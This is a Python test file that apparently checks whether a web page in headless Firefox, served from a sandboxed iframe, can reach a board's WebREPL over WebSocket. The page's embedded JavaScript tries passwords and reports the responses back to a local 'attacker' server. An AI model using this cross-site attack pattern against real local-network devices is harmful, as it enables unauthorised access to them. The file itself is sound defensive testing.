"""A web page in Firefox, in a frame that hides where it is from, types at `make run`'s WebREPL.

Firefox is driven by the page alone, which reports to the site that it is from. (Chromium's checks
for local networks would stop this page; Firefox has none.)
"""

import http.server
import queue
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.board.run_rig import ROOT, Run
from tests.browser.other_site import LISTEN
from tools import settings

FIREFOX = shutil.which("firefox") or shutil.which("firefox-esr")
TIMEOUT = 60  # s; a new profile takes a while
EXAMPLE = str(settings.read((ROOT / settings.EXAMPLE).read_text())["PASS"])
# LISTEN, which hears until the board hangs up, or until it is in.
FRAME = """<script>
const listen = %s;
const report = (heard) => fetch("http://127.0.0.1:%d/heard", {
    method: "POST", mode: "no-cors", body: heard });
const Plain = WebSocket;
WebSocket = class extends Plain {
    constructor(address) {
        super(address);
        this.addEventListener("message", (event) => {
            if (String(event.data).includes(">>>")) report("in: " + origin);
        });
    }
};
listen(["%s", "%s"]).then((heard) => report("out: " + heard + origin));
</script>"""


class Attacker(http.server.ThreadingHTTPServer):
    """A site whose page is a sandboxed frame with this script; `heard` is what that reports."""

    daemon_threads = True

    def __init__(self) -> None:
        self.heard: queue.Queue[str] = queue.Queue()
        self.frame = ""
        super().__init__(("127.0.0.1", 0), Page)
        threading.Thread(target=self.serve_forever, args=(0.01,), daemon=True).start()


class Page(http.server.BaseHTTPRequestHandler):
    server: Attacker

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        if self.path == "/frame":
            return self._answer(self.server.frame.encode())
        self._answer(b"<!doctype html><iframe sandbox=allow-scripts src=/frame></iframe>")

    def do_POST(self) -> None:
        said = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self._answer(b"")
        self.server.heard.put(said)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def visit(tmp_path: Path) -> Iterator[Callable[[str, str], str]]:
    """visit(address, password): what a page hears that types this at that WebREPL."""
    if not FIREFOX:
        pytest.skip("no firefox on PATH; on Debian: apt install firefox-esr")
    site = Attacker()
    browsers = []

    def visit(address: str, password: str) -> str:
        site.frame = FRAME % (LISTEN, site.server_port, address, password)
        profile = tmp_path / f"profile{len(browsers)}"
        profile.mkdir()
        command = [FIREFOX, "--headless", "--no-remote", "--profile", str(profile)]
        url = f"http://127.0.0.1:{site.server_port}/"
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        environment = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
        browsers.append(subprocess.Popen([*command, url], env=environment, **quiet))
        return site.heard.get(timeout=TIMEOUT)

    yield visit
    for browser in browsers:
        browser.terminate()
        browser.wait()
    site.shutdown()
    site.server_close()


def test_a_page_gets_in_by_the_boards_own_password_only(
    visit: Callable[[str, str], str], tmp_path: Path
) -> None:
    run = Run(tmp_path / "flash.img")
    try:
        lines = dict(line.split(" ", 1) for line in run.until("ready")[:-1])
        heard = visit(lines["webrepl"], EXAMPLE)
        assert heard.startswith("out: Password: ") and "Access denied" in heard, heard
        assert heard.endswith("null")  # its origin
        # Which shows that the page can talk to the board, and only the password stops it.
        assert visit(lines["webrepl"], lines["password"]) == "in: null"
    finally:
        run.end()
